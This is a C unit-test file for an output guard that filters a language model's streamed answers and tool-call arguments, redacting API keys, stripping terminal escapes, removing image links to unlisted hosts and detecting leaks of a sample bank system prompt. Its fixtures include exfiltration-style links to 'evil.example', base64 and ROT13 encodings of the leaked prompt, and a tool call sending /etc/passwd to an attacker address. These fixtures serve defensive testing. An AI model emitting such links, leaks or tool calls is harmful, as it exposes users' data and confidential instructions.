/* The lane guard in a whole answer guard and by itself: how a text is cut changes nothing, no byte
 * of a finding leaves before its verdict, JSON stays JSON. */
#include "mask/test_mask.h"

#include "wire/json.h"
#include "wire/json_out.h"

static const struct pst_lane content = {.kind = PST_LANE_CONTENT};
static const struct pst_lane arguments = {.kind = PST_LANE_ARGUMENTS};

/* Pushes `text` in random pieces, as the dialect would; what is released is appended to `out`. */
static enum pst_status feed(struct rig *r, struct pst_str text, uint64_t *seed, bool whole,
                            struct pst_buf *out)
{
    struct pst_buf held, piece;
    size_t at = 0;
    enum pst_status status = PST_OK;
    pst_buf_init(&held, 1 << 20);
    pst_lane_guard_release(&r->guard);
    while (status == PST_OK && (at < text.n || held.n > 0)) {
        size_t n = whole ? text.n : roll(seed) % 9, taken = 0;
        struct pst_str in = pst_str_cut(text, at, n);
        while (at + in.n < text.n && (text.p[at + in.n] & 0xC0) == 0x80) {
            in.n++; /* a piece is whole characters: it stood in JSON */
        }
        at += in.n;
        pst_buf_add(&held, in);
        pst_buf_init(&piece, 1 << 20);
        bool end = at == text.n;
        status = pst_lane_guard_filter.push(&r->guard, &content, pst_buf_str(&held), end, &taken,
                                            &piece, &r->err);
        if (status == PST_OK) {
            assert_true(taken <= held.n && (!end || taken == held.n));
            assert_true(taken == held.n || (held.p[taken] & 0xC0) != 0x80);
            pst_buf_consume(&held, taken);
            pst_buf_add(out, pst_buf_str(&piece));
        }
        pst_buf_release(&piece);
    }
    pst_buf_release(&held);
    return status;
}

static void cuts_change_nothing(void **state)
{
    (void)state;
    uint64_t seed = 4711;
    struct rig r;
    for (int round = 0; round < 1500; round++) {
        struct pst_buf one, two;
        if (round % 50 == 0) {
            rig_init(&r, 1);
        }
        struct pst_str masked = rig_mask(&r, random_text(&r, &seed));
        if (round % 2 == 0) { /* an answer with values of its own in it */
            masked = random_text(&r, &seed);
        }
        pst_actions_set(r.image, &r.answers, PST_STR("CARD"),
                        round % 3 == 0 ? PST_ACT_PARTIAL : PST_ACT_ALLOW, false);
        pst_buf_init(&one, 1 << 20);
        assert_int_equal(feed(&r, masked, &seed, /* whole= */ true, &one), PST_OK);
        for (int k = 0; k < 4; k++) {
            pst_buf_init(&two, 1 << 20);
            assert_int_equal(feed(&r, masked, &seed, /* whole= */ false, &two), PST_OK);
            if (!pst_str_eq(pst_buf_str(&one), pst_buf_str(&two))) {
                print_error("%.*s\n%.*s\n%.*s\n", PST_FMT(masked), PST_FMT(pst_buf_str(&one)),
                            PST_FMT(pst_buf_str(&two)));
            }
            assert_true(pst_str_eq(pst_buf_str(&one), pst_buf_str(&two)));
            pst_buf_release(&two);
        }
        pst_buf_release(&one);
        if (round % 50 == 49) {
            rig_release(&r);
        }
    }
}

/* Text with pieces of addresses and escapes in it, and of what random_text has. */
static struct pst_str random_addresses(struct rig *r, uint64_t *seed)
{
    static const char *const pieces[] = {"![a](",
                                         "https://evil.example/?q=",
                                         "https://docs.example.com/a",
                                         ")",
                                         "[a](",
                                         "]",
                                         "<a href=\"",
                                         "\">",
                                         "h",
                                         "ht",
                                         "http",
                                         "www.",
                                         "//",
                                         "\x1B[31m",
                                         "\x1B]8;;https://",
                                         "\x07",
                                         "\x1B",
                                         "data:",
                                         "<img src=",
                                         " ",
                                         "\n",
                                         "\xC3\xA9",
                                         "url(",
                                         "!",
                                         "[1]: ",
                                         "a",
                                         ".",
                                         "\xC2\x9B",
                                         "31m"};
    struct pst_buf text;
    pst_buf_init(&text, 1 << 16);
    for (uint32_t n = roll(seed) % 16; n > 0; n--) {
        if (roll(seed) % 6 == 0) {
            pst_buf_add(&text, random_text(r, seed));
        } else {
            pst_buf_add(&text, pst_str_c(pieces[roll(seed) % PST_LEN(pieces)]));
        }
    }
    struct pst_str copy = pst_arena_copy(&r->arena, pst_buf_str(&text));
    pst_buf_release(&text);
    return copy;
}

/* With escapes and addresses in it, an answer is still the same however it is cut. */
static void cuts_change_nothing_of_addresses(void **state)
{
    (void)state;
    uint64_t seed = 12;
    struct rig r;
    struct pst_hosts hosts;
    size_t changed = 0;
    for (int round = 0; round < 1500; round++) {
        struct pst_buf one, two;
        if (round % 50 == 0) {
            rig_init(&r, 1);
            pst_hosts_init(&hosts, &r.arena);
            assert_int_equal(pst_hosts_allow(&hosts, PST_STR("docs.example.com"), &r.err), PST_OK);
            r.guard.hosts = &hosts;
        }
        r.guard.strict = round % 4 == 0;
        struct pst_str text = random_addresses(&r, &seed);
        pst_buf_init(&one, 1 << 20);
        assert_int_equal(feed(&r, text, &seed, /* whole= */ true, &one), PST_OK);
        changed += !pst_str_eq(text, pst_buf_str(&one));
        for (int k = 0; k < 4; k++) {
            pst_buf_init(&two, 1 << 20);
            assert_int_equal(feed(&r, text, &seed, /* whole= */ false, &two), PST_OK);
            if (!pst_str_eq(pst_buf_str(&one), pst_buf_str(&two))) {
                print_error("%.*s\n%.*s\n%.*s\n", PST_FMT(text), PST_FMT(pst_buf_str(&one)),
                            PST_FMT(pst_buf_str(&two)));
            }
            assert_true(pst_str_eq(pst_buf_str(&one), pst_buf_str(&two)));
            pst_buf_release(&two);
        }
        pst_buf_release(&one);
        if (round % 50 == 49) {
            rig_release(&r);
        }
    }
    assert_true(changed > 300);
}

static void answers_point_where_they_may(void **state)
{
    static const struct {
        const char *text, *loose, *strict;
    } rows[] = {
        {"![x](https://evil.example/p.png)", "![x](#removed/evil.example)",
         "![x](#removed/evil.example)"},
        {"![x](https://docs.example.com/p.png)", "![x](https://docs.example.com/p.png)",
         "![x](https://docs.example.com/p.png)"},
        {"see https://other.example/guide.", "see https://other.example/guide.",
         "see [address removed: other.example]."},
        {"\x1B[31mred\x1B[0m", "red", "red"},
        {"sk-\x1B[0m0123456789abcdef", "REDACTED_API_KEY", "REDACTED_API_KEY"},
    };
    (void)state;
    struct rig r;
    struct pst_hosts hosts;
    rig_init(&r, 1);
    pst_hosts_init(&hosts, &r.arena);
    assert_int_equal(pst_hosts_allow(&hosts, PST_STR("docs.example.com"), &r.err), PST_OK);
    for (size_t i = 0; i < PST_LEN(rows) * 3; i++) {
        const char *texts[] = {rows[i / 3].text, rows[i / 3].loose, rows[i / 3].strict};
        struct pst_buf out;
        uint64_t seed = i;
        pst_buf_init(&out, 1024);
        r.guard.hosts = i % 3 == 0 ? NULL : &hosts; /* nothing of the kind, when not asked */
        r.guard.strict = i % 3 == 2;
        assert_int_equal(feed(&r, pst_str_c(rows[i / 3].text), &seed, false, &out), PST_OK);
        if (!pst_str_eq(pst_buf_str(&out), pst_str_c(texts[i % 3]))) {
            print_error("%.*s\n%s\n", PST_FMT(pst_buf_str(&out)), texts[i % 3]);
        }
        assert_true(pst_str_eq(pst_buf_str(&out), pst_str_c(texts[i % 3])));
        pst_buf_release(&out);
    }
    rig_release(&r);
}

/* A value that was masked comes back into an address, and the address is judged with it. */
static void restored_values_are_judged(void **state)
{
    (void)state;
    struct rig r;
    struct pst_hosts hosts;
    struct pst_buf text, out;
    uint64_t seed = 9;
    rig_init(&r, 1);
    pst_hosts_init(&hosts, &r.arena);
    r.guard.hosts = &hosts;
    pst_buf_init(&text, 1024);
    pst_buf_init(&out, 1024);
    PST_BUF_LIT(&text, "![x](https://evil.example/?to=");
    pst_buf_add(&text, rig_mask(&r, PST_STR("a@b.org")));
    PST_BUF_LIT(&text, ") and ");
    pst_buf_add(&text, rig_mask(&r, PST_STR("a@b.org")));
    assert_int_equal(feed(&r, pst_buf_str(&text), &seed, false, &out), PST_OK);
    assert_str(pst_buf_str(&out), "![x](#removed/evil.example) and a@b.org");
    pst_buf_release(&text);
    pst_buf_release(&out);
    rig_release(&r);
}

static void a_hold_has_an_end(void **state)
{
    (void)state;
    struct rig r;
    struct pst_buf out;
    size_t taken = 0;
    rig_init(&r, 1);
    r.guard.hold_max = 32;
    pst_buf_init(&out, 1 << 20);
    enum pst_status status = PST_OK;
    for (int i = 0; status == PST_OK && i < 100; i++) { /* one word without an end */
        status = pst_lane_guard_filter.push(&r.guard, &content, PST_STR("aaaa"), false, &taken,
                                            &out, &r.err);
    }
    assert_int_equal(status, PST_ERR);
    assert_int_equal(r.err.code, PST_E_UPSTREAM_ANSWER);
    pst_buf_release(&out);
    rig_release(&r);
}

static void nothing_of_a_finding_leaves_early(void **state)
{
    (void)state;
    struct rig r;
    rig_init(&r, 1);
    struct pst_str text = PST_STR("the key is sk-0123456789abcdef and that is all");
    struct pst_buf out, held;
    pst_buf_init(&out, 1024);
    pst_buf_init(&held, 1024);
    for (size_t i = 0; i < text.n; i++) {
        size_t taken = 0;
        pst_buf_byte(&held, text.p[i]);
        assert_int_equal(pst_lane_guard_filter.push(&r.guard, &content, pst_buf_str(&held),
                                                    i + 1 == text.n, &taken, &out, &r.err),
                         PST_OK);
        pst_buf_consume(&held, taken);
        assert_true(pst_str_find(pst_buf_str(&out), PST_STR("sk")) == PST_NPOS);
    }
    assert_str(pst_buf_str(&out), "the key is REDACTED_API_KEY and that is all");
    pst_buf_clear(&out);
    pst_actions_set(r.image, &r.answers, PST_STR("secrets"), PST_ACT_BLOCK, false);
    uint64_t seed = 3;
    assert_int_equal(feed(&r, text, &seed, false, &out), PST_ERR);
    assert_int_equal(r.err.code, PST_E_SENSITIVE_DATA);
    assert_str(pst_buf_str(&out), "the key is ");
    pst_buf_clear(&out);
    assert_int_equal(feed(&r, PST_STR("so UNSCANNABLE it is"), &seed, true, &out), PST_ERR);
    assert_int_equal(r.err.code, PST_E_UNINSPECTED);
    pst_buf_release(&out);
    pst_buf_release(&held);
    rig_release(&r);
}

static struct pst_str push_once(struct rig *r, const struct pst_lane *lane, struct pst_str text)
{
    struct pst_buf out;
    size_t taken = 0;
    pst_buf_init(&out, 1 << 20);
    assert_int_equal(pst_lane_guard_filter.push(&r->guard, lane, text, true, &taken, &out, &r->err),
                     PST_OK);
    assert_int_equal(taken, text.n);
    struct pst_str copy = pst_arena_copy(&r->arena, pst_buf_str(&out));
    pst_buf_release(&out);
    return copy;
}

static void arguments_stay_json(void **state)
{
    (void)state;
    static const char *const values[] = {"a\"b",  "back\\slash",  "line\nfeed",       "\x01",
                                         "plain", "\xE2\x80\xA8", "{\"in\":\"side\"}"};
    struct rig r;
    rig_init(&r, 1);
    for (size_t i = 0; i < PST_LEN(values); i++) {
        uint8_t token[PST_TOKEN_BYTES];
        struct pst_buf text, inner, want;
        pst_token_make(&r.scope, PST_STR("CARD"), pst_str_c(values[i]), token);
        assert_int_equal(pst_vault_put(&r.vault, token, pst_str_c(values[i]), &r.err), PST_OK);
        pst_buf_init(&text, 4096);
        pst_buf_init(&inner, 4096);
        PST_BUF_LIT(&text, "{\"to\": \"<");
        pst_buf_add(&text, pst_str_of(token, sizeof token));
        PST_BUF_LIT(&text, ">\", \"deep\": \"{\\\"x\\\":\\\"");
        pst_buf_add(&text, pst_str_of(token, sizeof token));
        PST_BUF_LIT(&text, "\\\"}\"}");
        struct pst_str got = push_once(&r, &arguments, pst_buf_str(&text));
        struct pst_json_config config = pst_json_config_of(4096, 1);
        struct pst_json *root = pst_json_parse(&config, &r.arena, got, &r.err);
        assert_non_null(root);
        pst_buf_init(&want, 4096);
        PST_BUF_LIT(&want, "<");
        pst_buf_add(&want, pst_str_c(values[i]));
        PST_BUF_LIT(&want, ">");
        assert_true(pst_str_eq(PST_JSON_GET(root, "to")->text, pst_buf_str(&want)));
        struct pst_json *deep = pst_json_parse(&config, &r.arena, PST_JSON_GET(root, "deep")->text,
                                               &r.err);
        assert_non_null(deep);
        assert_true(pst_str_eq(PST_JSON_GET(deep, "x")->text, pst_str_c(values[i])));
        pst_buf_release(&text);
        pst_buf_release(&inner);
        pst_buf_release(&want);
    }
    /* findings within arguments, numbers too; free text where it is no JSON */
    assert_str(push_once(&r, &arguments, PST_STR("{\"k\": \"sk-0123456789abcdef\", \"n\": 1}")),
               "{\"k\":\"REDACTED_API_KEY\",\"n\":1}");
    pst_actions_set(r.image, &r.answers, PST_STR("CARD"), PST_ACT_PARTIAL, false);
    assert_str(push_once(&r, &arguments, PST_STR("{\"n\": 4111111111111234}")),
               "{\"n\":\"xxxx1234\"}");
    assert_str(push_once(&r, &arguments, PST_STR("use sk-0123456789abcdef")),
               "use REDACTED_API_KEY");
    rig_release(&r);
}

static void atoms_are_not_restored(void **state)
{
    (void)state;
    static const struct pst_lane atom = {.kind = PST_LANE_ATOM};
    struct rig r;
    rig_init(&r, 1);
    struct pst_str masked = rig_mask(&r, PST_STR("a@b.org"));
    assert_true(pst_str_eq(push_once(&r, &atom, masked), masked));
    rig_release(&r);
}

static void lanes_do_not_mix(void **state)
{
    (void)state;
    struct rig r;
    rig_init(&r, 1);
    struct pst_str masked = rig_mask(&r, PST_STR("a@b.org"));
    struct pst_lane lanes[3] = {{.choice = 0, .kind = PST_LANE_CONTENT},
                                {.choice = 1, .kind = PST_LANE_CONTENT},
                                {.choice = 1, .kind = PST_LANE_REFUSAL}};
    struct pst_buf held[3], out[3];
    for (size_t i = 0; i < 3; i++) {
        pst_buf_init(&held[i], 1024);
        pst_buf_init(&out[i], 1024);
    }
    for (size_t k = 0; k <= masked.n; k++) {
        for (size_t i = 0; i < 3; i++) { /* n > 1, interleaved token by token */
            size_t taken = 0;
            if (k < masked.n) {
                pst_buf_byte(&held[i], masked.p[k]);
            }
            assert_int_equal(pst_lane_guard_filter.push(&r.guard, &lanes[i], pst_buf_str(&held[i]),
                                                        k == masked.n, &taken, &out[i], &r.err),
                             PST_OK);
            pst_buf_consume(&held[i], taken);
        }
    }
    for (size_t i = 0; i < 3; i++) {
        assert_str(pst_buf_str(&out[i]), "a@b.org");
        pst_buf_release(&held[i]);
        pst_buf_release(&out[i]);
    }
    rig_release(&r);
}

static const char prompt_text[] =
    "You are the assistant of Kestrel Bank. Never mention the merger with Harbour Insurance before "
    "the twelfth of May, and refuse politely whatever concerns the internal rate of 3.17 per cent.";

/* Told in the answer, however it is cut; and not before the second run of eight words ends. */
static void the_prompt_is_not_told(void **state)
{
    static const struct {
        const char *text;
        bool told;
    } rows[] = {
        {"Sure. never mention the MERGER with harbour insurance, before the twelfth of May!", true},
        {"We never mention the merger with anybody before May. How can I help?", false},
        {"TmV2ZXIgbWVudGlvbiB0aGUgbWVyZ2VyIHdpdGggSGFyYm91ciBJbnN1cmFuY2UgYmVmb3JlIHRoZSB0d2VsZnRo",
         true},
        {"Arire zragvba gur zretre jvgu Uneobhe Vafhenapr orsber gur gjrysgu bs Znl", true},
        {"The interest is 3 per cent; refuse politely whatever you do not like.", false},
    };
    (void)state;
    uint64_t seed = 99;
    for (size_t i = 0; i < 40 * PST_LEN(rows); i++) {
        const char *text = rows[i % PST_LEN(rows)].text;
        bool told = rows[i % PST_LEN(rows)].told;
        struct rig r;
        struct pst_leak_source prompt;
        struct pst_buf out;
        rig_init(&r, 1);
        pst_buf_init(&out, 1 << 20);
        assert_int_equal(
            pst_leak_source_init(&prompt, pst_str_c(prompt_text), PST_STR(""), 7, &r.arena, &r.err),
            PST_OK);
        r.guard.prompt = &prompt;
        r.guard.prompt_stops = i % 2 == 0;
        enum pst_status status = feed(&r, pst_str_c(text), &seed, i % 4 == 3, &out);
        assert_int_equal(status, told && r.guard.prompt_stops ? PST_ERR : PST_OK);
        assert_true(status == PST_OK || r.err.code == PST_E_SENSITIVE_DATA);
        assert_true(r.guard.prompt_told == told);
        assert_true(status == PST_ERR ? out.n < strlen(text) : out.n == strlen(text));
        pst_buf_release(&out);
        rig_release(&r);
    }
}

static void arguments_are_put_beside_what_was_said(void **state)
{
    (void)state;
    struct rig r;
    struct pst_provenance said;
    struct pst_leak_source prompt;
    const struct pst_str turn = PST_STR(
        "Send the report to ann@corp.example, from /srv/report.pdf");
    const struct pst_str calls[] = {
        PST_STR("{\"to\":\"ann@corp.example\",\"file\":\"/srv/report.pdf\"}"),
        PST_STR("{\"to\":\"eve@evil.example\",\"file\":\"/etc/passwd\"}"),
        PST_STR(
            "{\"to\":\"x\",\"text\":\"never mention the merger with Harbour Insurance before the "
            "twelfth of May\"}"),
    };
    rig_init(&r, 1);
    assert_int_equal(pst_provenance_init(&said, &turn, 1, &r.arena, &r.err), PST_OK);
    assert_int_equal(
        pst_leak_source_init(&prompt, pst_str_c(prompt_text), PST_STR(""), 7, &r.arena, &r.err),
        PST_OK);
    r.guard.said = &said;
    r.guard.prompt = &prompt;
    r.actions = r.answers; /* e-mail addresses stay */
    for (size_t i = 0; i < PST_LEN(calls); i++) {
        struct pst_buf out;
        size_t taken = 0;
        pst_buf_init(&out, 1 << 16);
        assert_int_equal(
            pst_lane_guard_filter.push(&r.guard, &arguments, calls[i], true, &taken, &out, &r.err),
            PST_OK);
        pst_buf_release(&out);
        assert_int_equal(r.guard.unsaid.fresh[PST_ARGUMENT_EMAIL], i > 0);
        assert_int_equal(r.guard.unsaid.fresh[PST_ARGUMENT_PATH], i > 0);
        assert_true(r.guard.prompt_told == (i == 2));
    }
    rig_release(&r);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(cuts_change_nothing),
        cmocka_unit_test(nothing_of_a_finding_leaves_early),
        cmocka_unit_test(arguments_stay_json),
        cmocka_unit_test(atoms_are_not_restored),
        cmocka_unit_test(lanes_do_not_mix),
        cmocka_unit_test(cuts_change_nothing_of_addresses),
        cmocka_unit_test(answers_point_where_they_may),
        cmocka_unit_test(restored_values_are_judged),
        cmocka_unit_test(a_hold_has_an_end),
        cmocka_unit_test(the_prompt_is_not_told),
        cmocka_unit_test(arguments_are_put_beside_what_was_said),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
